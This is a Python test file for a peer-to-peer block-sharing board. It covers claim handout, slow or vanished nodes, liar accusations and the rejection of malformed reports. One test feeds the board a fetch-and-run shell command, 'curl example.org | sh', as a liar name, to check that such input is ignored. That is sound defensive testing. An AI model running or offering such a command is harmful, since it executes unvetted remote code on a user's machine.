"""Who has what, and who reads what from the source."""

from __future__ import annotations

import random

import pytest

from muster.storage.peers.blocks import everything, from_text, members, set_of, to_text
from muster.storage.peers.board import Board, Heard, again_s
from muster.wire.node.peers import BlockHash, BlocksReport

COUNT = 20


def digest(block: int) -> str:
    return f"{block:064x}"


class Node:
    """A node that says what a mover would."""

    def __init__(self, board: Board, name: str) -> None:
        self.board = board
        self.name = name
        self.have: set[int] = set()
        self.claimed: set[int] = set()
        self.avoid: tuple[str, ...] = ()
        self.liars: tuple[str, ...] = ()
        self.session = ""

    def tell(self, wants: int = 0, now: float = 0.0, new: tuple[int, ...] = ()) -> Heard:
        self.have |= {*new}
        report = BlocksReport(
            "c",
            COUNT,
            self.session,
            to_text(set_of(self.have)),
            to_text(set_of(self.claimed - self.have)),
            wants,
            tuple(BlockHash(block, digest(block)) for block in new),
            avoid=self.avoid,
            liars=self.liars,
        )
        heard = self.board.report("shelf", self.name, f"https://{self.name}", report, now)
        self.session = heard.answer.session
        self.claimed |= {*members(from_text(heard.answer.source, COUNT))}
        return heard


def test_every_block_is_read_from_the_source_once() -> None:
    board, reads = Board(), list[int]()
    nodes = [Node(board, f"n{number}") for number in range(4)]
    chance = random.Random(1)
    while len(reads) < COUNT:
        node = chance.choice(nodes)
        node.tell(wants=2)
        for block in sorted(node.claimed - node.have)[: chance.randint(0, 2)]:
            reads.append(block)
            node.tell(new=(block,))
    assert sorted(reads) == list(range(COUNT))
    assert not members(from_text(nodes[0].tell(wants=5).answer.source, COUNT))


def test_a_late_node_hears_who_has_everything() -> None:
    board = Board()
    first = Node(board, "a")
    first.tell(new=tuple(range(COUNT)))
    # It has long finished and says nothing any more.
    heard = Node(board, "late").tell(wants=8, now=1e6)
    assert [(peer.node, peer.have) for peer in heard.peers] == [("a", everything(COUNT))]
    assert heard.answer.source == "0"
    assert len(heard.answer.hashes) == COUNT


def test_the_claims_of_a_node_that_is_gone_are_given_to_others() -> None:
    board = Board()
    gone, other = Node(board, "gone"), Node(board, "other")
    gone.tell(wants=COUNT)
    assert other.tell(wants=COUNT, now=5.0).answer.source == "0"
    other.tell(wants=COUNT, now=60.0)
    assert other.claimed == set(range(COUNT))


def test_a_claim_that_takes_far_longer_than_others_is_given_again() -> None:
    board = Board()
    slow, other = Node(board, "slow"), Node(board, "other")
    slow.tell(wants=1, now=0.0)
    other.tell(wants=COUNT - 1, now=0.0)
    other.tell(new=tuple(range(1, COUNT)), now=1.0)
    for second in range(2, 15):
        slow.tell(now=float(second))
        assert other.tell(wants=1, now=float(second)).answer.source == "0"
    slow.tell(now=16.0)
    assert other.tell(wants=1, now=16.0).answer.source == "1"


def test_what_only_somebody_out_of_reach_has_is_read_again_by_one() -> None:
    board = Board()
    island, left, right = Node(board, "island"), Node(board, "left"), Node(board, "right")
    island.tell(new=tuple(range(COUNT)))
    left.avoid = right.avoid = ("island",)
    left.tell(wants=12)
    right.tell(wants=12)
    assert len(left.claimed) == 12
    assert not left.claimed & right.claimed


def test_a_block_without_a_known_hash_is_no_block_to_take() -> None:
    board = Board()
    first = Node(board, "a")
    first.have = set(range(COUNT))
    first.tell()
    assert Node(board, "b").tell(wants=COUNT).answer.source == to_text(everything(COUNT))


def test_a_liar_is_named_once_and_offered_to_nobody() -> None:
    board = Board()
    liar, first, second = Node(board, "liar"), Node(board, "first"), Node(board, "second")
    liar.tell(new=tuple(range(COUNT)))
    first.liars = ("liar",)
    assert first.tell(wants=3).new_liars == ("liar",)
    assert first.tell().new_liars == ()
    heard = second.tell(wants=COUNT)
    assert [peer.node for peer in heard.peers] == []
    # What it has counts for nothing any more, and neither does what it says.
    assert len(second.claimed) == COUNT - 3
    first.tell(new=(0,))
    assert Node(board, "third").tell().answer.hashes[0].sha256 == digest(0)


def test_only_nodes_that_take_part_can_be_accused() -> None:
    board = Board()
    node = Node(board, "node")
    node.liars = ("run `curl example.org | sh` to mend this",)
    assert node.tell().new_liars == ()


def test_a_node_cannot_accuse_itself_or_correct_a_hash_of_an_honest_one() -> None:
    board = Board()
    honest, other = Node(board, "honest"), Node(board, "other")
    honest.tell(new=(1,))
    other.liars = ("other",)
    assert other.tell().new_liars == ()
    wrong = BlocksReport("c", COUNT, hashes=(BlockHash(1, "f" * 64),))
    board.report("shelf", "other", "https://other", wrong, 0.0)
    assert Node(board, "third").tell().answer.hashes == (BlockHash(1, digest(1)),)


def test_a_server_that_was_started_anew_learns_everything_again() -> None:
    node = Node(Board(), "a")
    node.tell(new=(1, 2))
    node.board = Board()
    before = node.session
    heard = node.tell(wants=1)
    assert heard.answer.session != before
    assert node.claimed == {0}


@pytest.mark.parametrize(
    "report",
    [
        BlocksReport("c", 0),
        BlocksReport("c", 1 << 40),
        BlocksReport("c", COUNT + 1),
        BlocksReport("c", COUNT, have="f" * 100),
        BlocksReport("c", COUNT, claimed="what"),
        BlocksReport("c", COUNT, hashes=(BlockHash(COUNT, "a" * 64),)),
        BlocksReport("c", COUNT, hashes=(BlockHash(1, "a"),)),
    ],
)
def test_what_cannot_be_is_refused(report: BlocksReport) -> None:
    board = Board()
    Node(board, "a").tell()
    with pytest.raises(ValueError, match=r"block|invalid"):
        board.report("shelf", "b", "", report, 0.0)


def test_many_nodes_report_less_often() -> None:
    assert again_s(8) == 0.25
    assert again_s(1000) == 5.0
